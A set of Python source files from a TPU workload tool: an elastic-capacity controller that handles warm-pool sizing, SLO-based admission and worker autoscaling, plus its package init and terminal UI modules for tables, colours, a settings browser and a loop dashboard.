        """Tick when ``interval_s`` has elapsed; False otherwise."""
        now = self._clock() if now is None else now
        if now - self._last_tick < self.settings.interval_s:
            return False
        self.tick(now)
        return True

    def tick(self, now: float | None = None) -> None:
        """One pass of all three control loops."""
        now = self._clock() if now is None else now
        with self._lock:
            dt = max(1e-6, now - self._last_tick) if self._last_tick else 0.0
            self._last_tick = now
            try:
                workers = list(self.hooks.workers())
                admission = self.hooks.admission_stats()
            except Exception:   # noqa: BLE001 -- a dying run's stats
                return          # must not crash the tick loop
            self.ticks += 1
            _FLEET_WORKERS.set(len(workers))
            arrivals = self._sample_arrivals()
            self._tick_pool(workers, arrivals, admission, dt)
            self._tick_slo(workers, admission, now)
            self._tick_autoscale(workers, admission, now)
            self._service_drains(workers)

    # ------------------------------------------------- loop 1: pool sizing

    def _sample_arrivals(self) -> dict[str, tuple[float, float]]:
        """{worker: (placements delta, misses delta)} this tick, from
        the registry's warm-pool counters."""
        hits = self._sampler.delta("warm_pool_hits_total", "worker")
        misses = self._sampler.delta("warm_pool_misses_total", "worker")
        out: dict[str, tuple[float, float]] = {}
        for wid in set(hits) | set(misses):
            h, m = hits.get(wid, 0.0), misses.get(wid, 0.0)
            out[wid] = (h + m, m)
        return out

    def _launch_s(self, admission: dict, wid: str) -> float:
        row = (admission.get("workers") or {}).get(wid) or {}
        return float(row.get("launch_ewma_ms", 0.0)) / 1000.0

    def _tick_pool(self, workers: list[str],
                   arrivals: dict[str, tuple[float, float]],
                   admission: dict, dt: float) -> None:
        s = self.settings
        if self.hooks.set_pool_target is None or s.pool_max_depth <= 0:
            return
        for wid in workers:
            count, miss = arrivals.get(wid, (0.0, 0.0))
            rate = self._rates.setdefault(
                wid, EwmaRate(s.alpha_up, s.alpha_down))
            if dt > 0:
                rate.observe(count, dt)
            _ARRIVAL_RATE.labels(wid).set(round(rate.value, 3))
            lead = s.refill_lead_s or max(
                self._launch_s(admission, wid), FALLBACK_LEAD_S)
            raw = math.ceil(rate.value * max(lead, s.interval_s))
            target = min(s.pool_max_depth, max(s.pool_min_depth, raw))
            if miss > 0:
                # misses are direct evidence of under-provisioning:
                # grow past the rate estimate immediately (the EWMA
                # catches up; the p99 cannot wait for it)
                target = min(s.pool_max_depth,
                             max(target,
                                 self.pool_targets.get(wid, 0) + int(miss)))
            if wid not in self.pool_targets and count == 0 and target == 0:
                # never seen traffic on this worker: leave whatever
                # static depth the run configured in place -- adaptive
                # sizing takes over at the first observed arrival
                continue
            if target == self.pool_targets.get(wid):
                continue
            self.pool_targets[wid] = target
            _POOL_TARGET.labels(wid).set(target)
            try:
                self.hooks.set_pool_target(wid, target)
            except Exception:   # noqa: BLE001 -- a draining pool is fine
                continue
            self.hooks.journal(REC_CAPACITY_POOL, worker=wid, target=target,
                               rate=round(rate.value, 3))
            self._decide("pool", wid, f"target={target}",
                         f"rate={rate.value:.2f}/s miss={int(miss)}")

    # --------------------------------------------- loop 2: SLO admission

    def _slo_for(self, tenant: str) -> float:
        s = self.settings.slo
        return float(s.tenants.get(tenant, s.default_s))

    def _effective_slo(self) -> float:
        """The tightest configured SLO (the bound every worker's bucket
        must be able to meet); 0 = SLO scaling disabled."""
        s = self.settings.slo
        values = [v for v in s.tenants.values() if v > 0]
        if s.default_s > 0:
            values.append(s.default_s)
        return min(values) if values else 0.0

    def _tick_slo(self, workers: list[str], admission: dict,
                  now: float) -> None:
        s = self.settings
        slo = self._effective_slo()
        if slo <= 0:
            return
        rows = admission.get("workers") or {}
        base = int(admission.get("max_inflight_per_worker", 1))
        lo = s.token_min or base
        worst_wait = 0.0
        # measured admission wait this tick, per worker (registry
        # histogram delta): the feedback half of the scaling -- the
        # launch-latency EWMA that feeds the model is diluted by fast
        # pool hits, but an SLO violation shows up in the WAIT
        # distribution no matter what mix produced it
        wait_deltas = self._sampler.hist_delta(
            "placement_admission_wait_seconds", "worker")
        for wid in workers:
            row = rows.get(wid) or {}
            queued = int(row.get("pending", 0))
            inflight = int(row.get("inflight", 0))
            launch_s = self._launch_s(admission, wid)
            if launch_s <= 0:
                continue        # no measured latency yet: nothing to scale
            cap_model, drain_s = tokens_for(queued, inflight, launch_s, slo,
                                            lo, s.token_max)
            worst_wait = max(worst_wait, drain_s)
            n_wait, sum_wait = wait_deltas.get(wid, (0.0, 0.0))
            mean_wait = sum_wait / n_wait if n_wait else 0.0
            cur = int(self.token_caps.get(wid)
                      or row.get("capacity") or lo)
            if mean_wait > slo:
                # measured violation: ratchet the cap multiplicatively
                # -- the feed-forward model under-reacts when pool hits
                # dilute the latency EWMA, the wait distribution never
                # lies
                cap = min(s.token_max, max(cap_model, max(cur, lo) * 2))
            elif mean_wait <= slo / 4 and queued == 0:
                # comfortably inside the SLO and nothing queued: bleed
                # one token per decay period back toward the model
                if cur > max(cap_model, lo) and now - self._last_decay.get(
                        wid, 0.0) >= TOKEN_DECAY_PERIOD_S:
                    cap = cur - 1
                    self._last_decay[wid] = now
                else:
                    cap = cur
            else:
                cap = max(cur, cap_model)
            if cap != self.token_caps.get(wid, row.get("capacity")):
                self.token_caps[wid] = cap
                _TOKEN_CAP.labels(wid).set(cap)
                self.hooks.set_token_cap(wid, cap)
                self.hooks.journal(REC_CAPACITY_TOKENS, worker=wid, cap=cap,
                                   launch_ms=round(launch_s * 1000, 2))
                self._decide("tokens", wid, f"cap={cap}",
                             f"queue={queued} wait={mean_wait * 1000:.0f}ms "
                             f"launch={launch_s * 1000:.1f}ms "
                             f"slo={slo:.2f}s")
            # SLO attainability at the MAX bucket: when even token_max
            # cannot drain the backlog inside the SLO, queueing more
            # work only makes every waiter later -- flip to reject with
            # an honest retry_after until the backlog clears
            _, drain_at_max = tokens_for(queued, inflight, launch_s, slo,
                                         lo, s.token_max)
            shedding = self.shedding.get(wid, 0.0)
            if drain_at_max > slo * SHED_OVERSHOOT:
                retry = max(MIN_RETRY_AFTER_S, drain_at_max - slo)
                if abs(retry - shedding) > MIN_RETRY_AFTER_S or not shedding:
                    self.shedding[wid] = retry
                    _SHED_RETRY.labels(wid).set(round(retry, 3))
                    self.hooks.set_shed(wid, retry)
                    self.hooks.journal(REC_CAPACITY_QUEUE, worker=wid,
                                       mode="reject",
                                       retry_after_s=round(retry, 3))
                    self._decide("queue", wid,
                                 f"reject retry_after_s={retry:.2f}",
                                 f"drain@max={drain_at_max:.2f}s "
                                 f"slo={slo:.2f}s")
            elif shedding and drain_at_max <= slo:
                self.shedding.pop(wid, None)
                _SHED_RETRY.labels(wid).set(0.0)
                self.hooks.set_shed(wid, 0.0)
                self.hooks.journal(REC_CAPACITY_QUEUE, worker=wid,
                                   mode="queue", retry_after_s=0.0)
                self._decide("queue", wid, "queue",
                             f"drain@max={drain_at_max:.2f}s back under "
                             f"slo={slo:.2f}s")
        # per-tenant headroom: the SLO minus the worst predicted wait
        # anywhere in the fleet -- what `fleet placement` renders
        tenants = dict(s.slo.tenants)
        if s.slo.default_s > 0:
            tenants.setdefault("default", s.slo.default_s)
        for tenant, tenant_slo in tenants.items():
            if tenant_slo <= 0:
                continue
            headroom = tenant_slo - worst_wait
            self.headroom[tenant] = round(headroom, 3)
            _SLO_HEADROOM.labels(tenant).set(round(headroom, 3))

    # ---------------------------------------------- loop 3: fleet autoscale

    def _tick_autoscale(self, workers: list[str], admission: dict,
                        now: float) -> None:
        a = self.settings.autoscale
        if not a.enable or self.scaler is None or not workers:
            return
        rows = admission.get("workers") or {}
        pending = sum(int((rows.get(w) or {}).get("pending", 0))
                      for w in workers)
        inflight = sum(int((rows.get(w) or {}).get("inflight", 0))
                       for w in workers)
        capacity = sum(int((rows.get(w) or {}).get(
            "capacity", admission.get("max_inflight_per_worker", 1)))
            for w in workers)
        # sustained queue depth: grow
        if pending / len(workers) > a.queue_high and \
                len(workers) < a.max_workers:
            if self._queue_high_since is None:
                self._queue_high_since = now
            elif now - self._queue_high_since >= a.sustain_s:
                self._queue_high_since = None
                self._scale_up(pending)
        else:
            self._queue_high_since = None
        # sustained idle capacity: drain the least-loaded worker
        busy = (pending + inflight) / max(1, capacity)
        if busy < a.idle_low and len(workers) > a.min_workers \
                and not self._pending_drain:
            if self._idle_since is None:
                self._idle_since = now
            elif now - self._idle_since >= a.sustain_s:
                self._idle_since = None
                victim = min(workers, key=lambda w: (
                    int((rows.get(w) or {}).get("inflight", 0))
                    + int((rows.get(w) or {}).get("pending", 0))))
                self.request_drain(victim)
        else:
            self._idle_since = None

    def _scale_up(self, pending: int) -> None:
        # WAL before the provisioner call: a crash in between replays
        # as a durable intent the next generation can audit
        rcpt = self.hooks.journal(REC_CAPACITY_SCALE, durable=True,
                                  action="provision", worker="",
                                  phase="intent", pending=pending)
        if not _synced(rcpt):
            # storage fault: without a durable intent a crash mid-
            # provision leaks an unauditable worker -- skip the scale;
            # the sustain window re-triggers once storage recovers
            log.warning("capacity provision skipped: intent not durable "
                        "(storage fault)")
            return
        try:
            new = self.scaler.provision(1)
        except Exception as e:  # noqa: BLE001 -- a failed provision is a
            log.warning("capacity provision failed: %s", e)  # retry next
            new = []            # sustain window, never a crashed tick
        self.hooks.journal(REC_CAPACITY_SCALE, action="provision",
                           worker=",".join(new), phase="done")
        self.provisioned.extend(new)
        self._decide("provision", ",".join(new) or "-",
                     f"workers+{len(new)}", f"queue depth {pending}")

    def request_drain(self, worker_id: str) -> None:
        """Queue a drain; it fires only once the journal-replay gate
        proves zero live placements on the victim (chaos scale_down and
        the idle loop both land here).  Callable from any thread: a
        duplicate append is tolerated (the drain servicer removes every
        copy), so no lock juggling with the tick is needed."""
        if worker_id not in self._pending_drain:
            self._pending_drain.append(worker_id)

    def _service_drains(self, workers: list[str]) -> None:
        if not self._pending_drain or self.scaler is None:
            return
        a = self.settings.autoscale
        for victim in list(dict.fromkeys(self._pending_drain)):
            if victim not in self._pending_drain:
                continue
            if victim not in workers:
                while victim in self._pending_drain:
                    self._pending_drain.remove(victim)
                continue
            if len(workers) <= max(1, a.min_workers):
                continue        # the fleet shrank under us: hold the drain
            # stop refilling the victim's pool first -- members melt as
            # placements adopt them, and want() goes to zero
            if self.hooks.set_pool_target is not None:
                try:
                    self.hooks.set_pool_target(victim, 0)
                except Exception:   # noqa: BLE001
                    pass
                if self.pool_targets.get(victim):
                    self.pool_targets[victim] = 0
                    _POOL_TARGET.labels(victim).set(0)
                    self.hooks.journal(REC_CAPACITY_POOL, worker=victim,
                                       target=0, rate=0.0)
            live = 0
            if self.hooks.live_placements is not None:
                try:
                    live = int(self.hooks.live_placements(victim))
                except Exception:   # noqa: BLE001 -- an unreadable journal
                    live = 1        # is NOT proof of zero placements
            if live > 0:
                n = self._drain_blocked.get(victim, 0)
                self._drain_blocked[victim] = n + 1
                if n == 0:      # journal the block once, not per tick
                    self.hooks.journal(REC_CAPACITY_SCALE, action="drain",
                                       worker=victim, phase="blocked",
                                       live=live)
                    self._decide("drain_blocked", victim,
                                 f"live={live}", "journal replay shows "
                                 "live placements; drain deferred")
                continue
            # WAL-before-mutation: the drain intent is durable before
            # the scaler acts, so a crash mid-drain replays as an
            # auditable intent against a victim PROVEN empty
            rcpt = self.hooks.journal(REC_CAPACITY_SCALE, durable=True,
                                      action="drain", worker=victim,
                                      phase="intent")
            if not _synced(rcpt):
                # storage fault: leave the victim queued in
                # _pending_drain so the drain retries next tick
                log.warning("capacity drain of %s deferred: intent not "
                            "durable (storage fault)", victim)
                continue
            try:
                ok = self.scaler.drain(victim)
            except Exception as e:      # noqa: BLE001
                log.warning("capacity drain of %s failed: %s", victim, e)
                ok = False
            self.hooks.journal(REC_CAPACITY_SCALE, action="drain",
                               worker=victim,
                               phase="done" if ok else "failed")
            while victim in self._pending_drain:
                self._pending_drain.remove(victim)
            self._drain_blocked.pop(victim, None)
            if ok:
                self.drained.append(victim)
            self._decide("drain", victim, "done" if ok else "failed")

    # ------------------------------------------------------- resume / view

    def restore(self, state: dict) -> None:
        """Re-apply journaled controller state at ``--resume`` (the
        ``RunImage.capacity`` fold): targets, caps, and queue modes are
        pushed back through the hooks WITHOUT re-journaling -- the
        records that set them are already in the journal."""
        for wid, target in (state.get("pool_targets") or {}).items():
            self.pool_targets[wid] = int(target)
            _POOL_TARGET.labels(wid).set(int(target))
            if self.hooks.set_pool_target is not None:
                self.hooks.set_pool_target(wid, int(target))
        for wid, cap in (state.get("token_caps") or {}).items():
            self.token_caps[wid] = int(cap)
            _TOKEN_CAP.labels(wid).set(int(cap))
            self.hooks.set_token_cap(wid, int(cap))
        for wid, retry in (state.get("queue_modes") or {}).items():
            retry = float(retry)
            if retry > 0:
                self.shedding[wid] = retry
            self.hooks.set_shed(wid, retry)
        for wid in state.get("pending_drain") or []:
            # a drain requested-but-gated when the scheduler died: the
            # journaled intent survives the crash, so the resumed
            # generation keeps holding it against the same gate
            self.request_drain(wid)

    def state(self) -> dict:
        """Live controller state for the status RPC / `fleet` views."""
        with self._lock:
            pool = {}
            if self.hooks is not None and self.hooks.pool_stats is not None:
                try:
                    pool = (self.hooks.pool_stats() or {}).get("workers", {})
                except Exception:   # noqa: BLE001 -- a draining run's
                    pool = {}       # pool must not break status
            workers = sorted(set(self.pool_targets) | set(self.token_caps)
                             | set(pool) | set(self.shedding))
            return {
                "ticks": self.ticks,
                "slo_s": self._effective_slo(),
                "workers": {
                    wid: {
                        "pool_target": self.pool_targets.get(wid, 0),
                        "pool_ready": int(
                            (pool.get(wid) or {}).get("ready", 0)),
                        "token_cap": self.token_caps.get(wid, 0),
                        "arrival_rate": round(
                            self._rates[wid].value, 3)
                        if wid in self._rates else 0.0,
                        "shed_retry_after_s": round(
                            self.shedding.get(wid, 0.0), 3),
                    } for wid in workers
                },
                "tenants": {
                    t: {"slo_s": self._slo_for(t), "headroom_s": h}
                    for t, h in sorted(self.headroom.items())
                },
                "autoscale": {
                    "enabled": bool(self.settings.autoscale.enable
                                    and self.scaler is not None),
                    "pending_drain": list(self._pending_drain),
                    "drained": list(self.drained),
                    "provisioned": list(self.provisioned),
                },
            }
