"""Elastic capacity: telemetry-driven warm-pool sizing, SLO-aware
admission, and fleet autoscaling (docs/elastic-capacity.md).

Every capacity knob used to be a static setting tuned for one traffic
shape: warm-pool depth, per-worker admission tokens, the fleet size
itself.  This package closes the loop from the metrics registry --
observed arrival rate and hit/miss history size each worker's pool,
measured launch latency scales each worker's token bucket against a
per-tenant latency SLO (reject-with-``retry_after_s`` instead of
unbounded queueing when the SLO is provably unattainable), and
sustained queue depth or idle capacity provisions/drains workers
through the concurrent fleet provisioner.

Layering: rank 2, like :mod:`clawker_tpu.placement` -- the controller
never imports the scheduler or the CLI.  The scheduler (and loopd) wire
it through :class:`CapacityHooks`, a bag of callables over their own
surfaces (pool targets, admission caps, journal, event bus), so every
decision is journaled as ``REC_CAPACITY_*`` records in the run journal
and emitted as typed ``capacity.decision`` bus events -- ``--resume``
restores controller state, the console replays it.
"""

from .controller import (
    REC_CAPACITY_POOL,
    REC_CAPACITY_QUEUE,
    REC_CAPACITY_SCALE,
    REC_CAPACITY_TOKENS,
    CapacityController,
    CapacityHooks,
    tokens_for,
)
from .scaler import (
    FakeFleetScaler,
    FleetScaler,
    NullScaler,
    TPUVMScaler,
    make_scaler,
)
from .signals import EwmaRate, RegistrySampler

__all__ = [
    "REC_CAPACITY_POOL", "REC_CAPACITY_QUEUE", "REC_CAPACITY_SCALE",
    "REC_CAPACITY_TOKENS", "CapacityController", "CapacityHooks",
    "EwmaRate", "FakeFleetScaler", "FleetScaler", "NullScaler",
    "RegistrySampler", "TPUVMScaler", "make_scaler", "tokens_for",
]
