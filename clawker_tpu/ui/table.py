"""Column-aligned tables (parity: internal/iostreams/table.go).

ANSI-aware alignment: styled cells pad by their visible width.
"""

from __future__ import annotations

from .colors import visible_len


def render_table(headers: list[str], rows: list[list[str]],
                 *, max_width: int = 0, gap: int = 2) -> str:
    cols = len(headers)
    widths = [visible_len(h) for h in headers]
    for row in rows:
        for i in range(min(cols, len(row))):
            widths[i] = max(widths[i], visible_len(row[i]))

    if max_width:
        # shrink the widest column until the table fits (truncate cells)
        sep = gap * (cols - 1)
        while sum(widths) + sep > max_width and max(widths) > 8:
            widths[widths.index(max(widths))] -= 1

    def fmt(row: list[str]) -> str:
        out = []
        for i in range(cols):
            cell = row[i] if i < len(row) else ""
            w = widths[i]
            if visible_len(cell) > w:
                # truncate on visible chars, keep a marker
                plain, count = [], 0
                for ch in cell:
                    if count >= w - 1:
                        break
                    plain.append(ch)
                    if ch != "\x1b":
                        count += 1
                cell = "".join(plain) + "…"
            pad = " " * (w - visible_len(cell))
            out.append(cell + (pad if i < cols - 1 else ""))
        return (" " * gap).join(out).rstrip()

    lines = [fmt(headers)] + [fmt(r) for r in rows]
    return "\n".join(lines) + "\n"
