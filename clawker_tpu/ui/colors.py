"""ColorScheme: semantic ANSI styling that collapses to plain text.

Parity reference: internal/iostreams/colorscheme.go + styles.go.  Every
method returns the input unchanged when colors are disabled, so call
sites never branch.
"""

from __future__ import annotations

from dataclasses import dataclass

RESET = "\x1b[0m"

_CODES = {
    "bold": "1",
    "dim": "2",
    "red": "31",
    "green": "32",
    "yellow": "33",
    "blue": "34",
    "magenta": "35",
    "cyan": "36",
    "gray": "90",
    "invert": "7",
}


@dataclass
class ColorScheme:
    enabled: bool = False

    def _wrap(self, code: str, s: str) -> str:
        if not self.enabled or not s:
            return s
        return f"\x1b[{code}m{s}{RESET}"

    def bold(self, s: str) -> str:
        return self._wrap(_CODES["bold"], s)

    def dim(self, s: str) -> str:
        return self._wrap(_CODES["dim"], s)

    def red(self, s: str) -> str:
        return self._wrap(_CODES["red"], s)

    def green(self, s: str) -> str:
        return self._wrap(_CODES["green"], s)

    def yellow(self, s: str) -> str:
        return self._wrap(_CODES["yellow"], s)

    def blue(self, s: str) -> str:
        return self._wrap(_CODES["blue"], s)

    def magenta(self, s: str) -> str:
        return self._wrap(_CODES["magenta"], s)

    def cyan(self, s: str) -> str:
        return self._wrap(_CODES["cyan"], s)

    def invert(self, s: str) -> str:
        return self._wrap(_CODES["invert"], s)

    def gray(self, s: str) -> str:
        return self._wrap(_CODES["gray"], s)

    # semantic marks (colorscheme.go SuccessIcon/WarningIcon/FailureIcon)
    def success_icon(self) -> str:
        return self.green("✓") if self.enabled else "+"

    def warning_icon(self) -> str:
        return self.yellow("!") if self.enabled else "!"

    def failure_icon(self) -> str:
        return self.red("✗") if self.enabled else "x"

    def status(self, state: str) -> str:
        """One token colored by convention: running=cyan, done=green,
        failed=red, pending/other=gray."""
        colors = {"running": self.cyan, "done": self.green,
                  "failed": self.red, "stopped": self.yellow}
        return colors.get(state, self.gray)(state)


def visible_len(s: str) -> int:
    """Length without ANSI escapes (layout must align styled cells)."""
    n, i = 0, 0
    while i < len(s):
        if s[i] == "\x1b":
            j = s.find("m", i)
            if j < 0:
                break
            i = j + 1
        else:
            n += 1
            i += 1
    return n
