"""Full-screen field browser: navigate / filter / edit typed store fields.

``clawker settings edit`` (and ``project edit``) without arguments opens
this browser over storeui.field_specs: every leaf of the typed schema
as a row with its current value and provenance layer, arrow/jk
navigation, ``/`` type-to-filter, Enter editing inline on a prompt line,
``L`` cycling the write layer, and live re-read after every write so
provenance updates immediately.

Key handling reads the byte stream (escape sequences decoded here), so
tests drive it headlessly through IOStreams.test with injected key
bytes; on a real TTY the caller wraps it in raw mode + the alternate
screen.

Parity reference: internal/tui componentry (BubbleTea field browser /
statusbar, SURVEY.md 2.4) -- re-designed as an ANSI repaint loop over
the same IOStreams seam the dashboard uses.
"""

from __future__ import annotations

import os

from ..storeui import EditError, FieldSpec, _fmt, _raw, coerce, field_specs
from .colors import visible_len
from .iostreams import IOStreams

# decoded key tokens
K_UP, K_DOWN, K_PGUP, K_PGDN, K_HOME, K_END = "up", "down", "pgup", "pgdn", "home", "end"
K_ENTER, K_ESC, K_BACKSPACE = "enter", "esc", "backspace"
K_NONE = "none"   # swallowed/unknown input: NOT end-of-input ('')
K_INT = "interrupt"  # Ctrl-C: raw mode disables ISIG, so decode it here


class _FdStream:
    """Unbuffered char reads straight off a file descriptor.

    The interactive path must NOT read keys through sys.stdin's
    TextIOWrapper: its userspace buffer can already hold the tail of an
    escape sequence, making select() on the fd report 'nothing pending'
    and a Delete key decode as a bare ESC (which quits the browser)."""

    def __init__(self, fd: int):
        self._fd = fd

    def fileno(self) -> int:
        return self._fd

    def read(self, n: int = 1) -> str:
        try:
            return os.read(self._fd, n).decode(errors="replace")
        except OSError:
            return ""


def _follow_up(stream) -> str:
    """Next char IF one is immediately pending ('' otherwise): a bare
    ESC press must decode as ESC without blocking on the next key.
    Non-fileno streams (StringIO in tests) just read -- EOF is ''."""
    fn = getattr(stream, "fileno", None)
    if fn is not None:
        try:
            fd = fn()
        except (OSError, ValueError, AttributeError):
            fd = None
        if fd is not None:
            import select as _select

            r, _, _ = _select.select([fd], [], [], 0.03)
            if not r:
                return ""
    return stream.read(1)


def read_key(stream) -> str:
    """One decoded key token from a text stream ('' on EOF).

    Printable characters come back as themselves; control/escape
    sequences as the K_* tokens above.  Unrecognized CSI sequences are
    consumed to their final byte and ignored (never mis-read as ESC:
    that would quit the browser on a stray Delete key)."""
    ch = stream.read(1)
    if not ch:
        return ""
    if ch == "\x03":
        return K_INT
    if ch in ("\r", "\n"):
        return K_ENTER
    if ch in ("\x7f", "\x08"):
        return K_BACKSPACE
    if ch == "\x1b":
        nxt = _follow_up(stream)
        if nxt != "[":
            return K_ESC
        # CSI: params/intermediates until a final byte in @..~
        seq = ""
        while True:
            c = _follow_up(stream)
            if not c:
                return ""
            seq += c
            if "@" <= c <= "~":
                break
        finals = {"A": K_UP, "B": K_DOWN, "H": K_HOME, "F": K_END}
        if seq in finals:
            return finals[seq]
        if seq == "5~":
            return K_PGUP
        if seq == "6~":
            return K_PGDN
        return K_NONE  # unknown sequence: swallowed whole, not ESC/EOF
    return ch if ch.isprintable() else K_NONE


class FieldBrowser:
    """State machine over the spec list; render() returns frame lines so
    tests can assert on them without a terminal."""

    def __init__(self, store, streams: IOStreams, *, layers: list[str] | None = None):
        self.store = store
        self.streams = streams
        self.layers: list[str | None] = [None] + list(layers or [])
        self.layer_idx = 0
        self.cursor = 0
        self.offset = 0
        self.filter = ""
        self.filtering = False
        self.editing = False
        self.edit_buf = ""
        self.message = ""
        self.changed = 0
        self.specs: list[FieldSpec] = []
        self.reload()

    # ------------------------------------------------------------- model

    def reload(self) -> None:
        self.specs = field_specs(self.store)

    def visible(self) -> list[FieldSpec]:
        if not self.filter:
            return self.specs
        f = self.filter.lower()
        return [s for s in self.specs if f in s.path.lower()]

    def current(self) -> FieldSpec | None:
        vis = self.visible()
        if not vis:
            return None
        self.cursor = max(0, min(self.cursor, len(vis) - 1))
        return vis[self.cursor]

    @property
    def write_layer(self) -> str | None:
        return self.layers[self.layer_idx]

    # ------------------------------------------------------------- input

    def handle(self, key: str) -> bool:
        """One key; returns False when the browser should close."""
        if self.editing:
            return self._handle_edit(key)
        if self.filtering:
            return self._handle_filter(key)
        vis = self.visible()
        if key == K_NONE:
            return True
        if key in ("q", K_ESC, K_INT) or key == "":
            return False
        if key in (K_UP, "k"):
            self.cursor = max(0, self.cursor - 1)
        elif key in (K_DOWN, "j"):
            self.cursor = min(max(0, len(vis) - 1), self.cursor + 1)
        elif key == K_PGUP:
            self.cursor = max(0, self.cursor - self._page())
        elif key == K_PGDN:
            self.cursor = min(max(0, len(vis) - 1), self.cursor + self._page())
        elif key == K_HOME:
            self.cursor = 0
        elif key == K_END:
            self.cursor = max(0, len(vis) - 1)
        elif key == "/":
            self.filtering = True
            self.filter = ""
            self.cursor = 0
        elif key in ("L", "l"):
            self.layer_idx = (self.layer_idx + 1) % len(self.layers)
        elif key == K_ENTER:
            spec = self.current()
            if spec is not None:
                self.editing = True
                self.edit_buf = _raw(spec)
                self.message = ""
        return True

    def _handle_filter(self, key: str) -> bool:
        if key == K_NONE:
            return True
        if key == K_INT:
            return False
        if key in (K_ENTER, K_ESC):
            self.filtering = False
            if key == K_ESC:
                self.filter = ""
        elif key == K_BACKSPACE:
            self.filter = self.filter[:-1]
        elif key == "":
            return False
        elif len(key) == 1:
            self.filter += key
            self.cursor = 0
        return True

    def _handle_edit(self, key: str) -> bool:
        if key == K_NONE:
            return True
        if key == K_INT:
            return False
        if key == K_ESC:
            self.editing = False
            self.message = "edit cancelled"
            return True
        if key == "":
            return False
        if key == K_ENTER:
            spec = self.current()
            self.editing = False
            if spec is None:
                return True
            try:
                value = coerce(spec, self.edit_buf)
            except EditError as e:
                self.message = str(e)
                return True
            if value != spec.value:
                self.store.set(spec.path, value, layer=self.write_layer)
                self.changed += 1
                self.reload()
                self.message = f"set {spec.path} = {_fmt(value)}"
            return True
        if key == K_BACKSPACE:
            self.edit_buf = self.edit_buf[:-1]
        elif len(key) == 1:
            self.edit_buf += key
        return True

    # ------------------------------------------------------------ render

    def _page(self) -> int:
        return max(4, self._height() - 4)

    def _height(self) -> int:
        import shutil as _sh

        try:
            return _sh.get_terminal_size().lines
        except OSError:
            return 24

    def render(self) -> list[str]:
        cs = self.streams.colors()
        width = self.streams.terminal_width()
        page = self._page()
        vis = self.visible()
        self.cursor = max(0, min(self.cursor, max(0, len(vis) - 1)))
        if self.cursor < self.offset:
            self.offset = self.cursor
        if self.cursor >= self.offset + page:
            self.offset = self.cursor - page + 1
        rows = vis[self.offset:self.offset + page]

        head = cs.bold("settings browser") + cs.gray(
            f"  {len(vis)}/{len(self.specs)} fields"
            f"  write layer: {self.write_layer or 'auto'}")
        lines = [head]
        path_w = max([visible_len(s.path) for s in rows], default=20)
        for i, s in enumerate(rows):
            idx = self.offset + i
            prov = f"  [{s.provenance}]" if s.provenance else "  [default]"
            val = _fmt(s.value)
            line = (f"{s.path:<{path_w}}  {val}"[:max(10, width - 12)]
                    + cs.gray(prov))
            if idx == self.cursor:
                line = cs.invert(" " + line + " ") if hasattr(cs, "invert") \
                    else cs.bold("> " + line)
            else:
                line = "  " + line
            lines.append(line)
        if not rows:
            lines.append(cs.gray("  (no fields match the filter)"))

        if self.editing:
            spec = self.current()
            name = spec.path if spec else "?"
            lines.append(cs.bold(f"edit {name} > ") + self.edit_buf + "_")
        elif self.filtering:
            lines.append(cs.bold("filter > ") + self.filter + "_")
        else:
            hints = ("arrows/jk move  / filter  enter edit  "
                     "L layer  q quit")
            status = f" {hints}  {self.message}"
            lines.append(cs.gray(status[:width]))
        return lines


def browse(store, streams: IOStreams, *, key_stream=None,
           layers: list[str] | None = None) -> int:
    """Run the browser; returns the number of fields changed.

    ``key_stream`` defaults to the streams' stdin buffer; on a real TTY
    the caller should hold raw mode for the duration (cmd_settings does)."""
    browser = FieldBrowser(store, streams, layers=layers)
    stream = key_stream if key_stream is not None else streams.stdin
    out = streams.stdout
    alt = streams.is_stdout_tty()
    painted = 0
    if alt:
        streams.start_alt_screen()
        out.write("\x1b[H")
    # the caller holds raw mode: OPOST is off, so \n does not imply \r --
    # every line must carriage-return explicitly or frames stair-step
    nl = "\r\n"
    try:
        while True:
            lines = browser.render()
            if alt:
                out.write("\x1b[H")
            elif painted:
                out.write(f"\x1b[{painted}A")
            for line in lines:
                out.write("\x1b[2K" + line + nl)
            for _ in range(max(0, painted - len(lines))):
                out.write("\x1b[2K" + nl)
            if painted > len(lines):
                out.write(f"\x1b[{painted - len(lines)}A")
            painted = len(lines)
            out.flush()
            if not browser.handle(read_key(stream)):
                break
    finally:
        if alt:
            streams.stop_alt_screen()
    return browser.changed


def edit_store(store, streams: IOStreams, *, select_mode: bool = False) -> int:
    """Shared launch for ``settings edit`` / ``project edit``: the
    full-screen browser on a real terminal (raw mode held here), the
    numbered-select editor otherwise or with --select."""
    if not select_mode and streams.is_stdin_tty() and streams.is_stdout_tty():
        import sys

        from ..runtime.attach import raw_terminal

        writable = [l.name for l in store.layers if l.writable]
        with raw_terminal(sys.stdin.fileno()):
            return browse(store, streams, layers=writable,
                          key_stream=_FdStream(sys.stdin.fileno()))
    from ..storeui import run_editor

    return run_editor(store, streams)
