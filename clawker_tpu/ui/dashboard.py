"""Shared monitor dashboard for ``clawker loop --parallel N``.

Parity reference: internal/tui/dashboard.go + progress.go (BubbleTea);
BASELINE config 4 names the shared monitor TUI for the pod-wide loop
fan-out.  Re-designed as an ANSI repaint panel over the scheduler's
public status surface plus two tickers: scheduler events and the
netlogger's egress jsonl (the same stream the monitor stack indexes).

Non-TTY behavior is handled by the CALLER (the CLI keeps its plain
event lines); the dashboard itself only paints on a live terminal.
"""

from __future__ import annotations

import collections
import json
import threading
import time
from pathlib import Path

from .colors import visible_len
from .damage import DamagePainter
from .iostreams import IOStreams
from .table import render_table

EVENT_TICKER = 6     # recent scheduler events shown
EGRESS_TICKER = 5    # recent egress decisions shown


def _anomaly_threshold() -> float:
    """Single source: analytics.runtime.ANOMALY_Z.  An ANOM-Z column only
    appears when the analytics runtime produced scores, so the import
    succeeds whenever the value is needed; the fallback keeps the
    dashboard render path crash-free regardless."""
    try:
        from ..analytics.runtime import ANOMALY_Z

        return ANOMALY_Z
    except ImportError:
        return 3.5


def tail_jsonl(path: Path, max_lines: int = 64) -> list[dict]:
    """Last records of a jsonl file (netlogger's ebpf-egress.jsonl)."""
    try:
        with path.open("rb") as fh:
            fh.seek(0, 2)
            size = fh.tell()
            fh.seek(max(0, size - 16384))
            chunk = fh.read().decode(errors="replace")
    except OSError:
        return []
    out = []
    for line in chunk.splitlines()[-max_lines:]:
        try:
            out.append(json.loads(line))
        except ValueError:
            continue
    return out


class LoopDashboard:
    """Live panel: loop table + event ticker + egress ticker."""

    def __init__(self, streams: IOStreams, scheduler, *,
                 egress_path: Path | None = None, egress_feed=None,
                 fps: float = 4.0):
        self.streams = streams
        self.scheduler = scheduler
        self.egress_path = egress_path
